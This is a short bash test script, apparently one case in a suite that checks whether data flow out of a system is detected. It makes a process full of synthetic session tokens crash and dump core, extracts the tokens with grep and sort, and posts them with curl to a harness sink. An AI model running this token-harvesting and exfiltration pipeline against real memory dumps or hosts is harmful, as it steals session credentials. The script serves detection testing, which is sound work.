#!/bin/bash
# B-tokens: all session tokens of a large core, about 100 KB of 25 MB, are harvested and sent.
# flow: grep reads the dump and writes a pipe; sort; a pipe; curl: what leaves was made from the dump, and is less than 1/64 of it.
# tools: python3 grep sort curl
# expect: sent counted port medium
. "$CORPUS/lib.sh"
mkdir dumps
{ (cd dumps && ulimit -c unlimited && exec python3 -c 'import hashlib, os
tokens = ["SESS-" + hashlib.md5(b"%d" % i).hexdigest() for i in range(2600)]
# Made later it lies lower, so before them in the core: whoever reads that has read much when it finds the first token.
filler = hashlib.shake_256(b"x").digest(20 << 20)
os.abort()'); } 2>/dev/null
D=$(ls -d "$W"/dumps/core*)
made "$D"
sink http
LC_ALL=C grep -aoE 'SESS-[0-9a-f]{32}' "$D" | LC_ALL=C sort -u | curl -sS -o /dev/null --data-binary @- "http://$SINK:$PORT/up"
sunk 90000
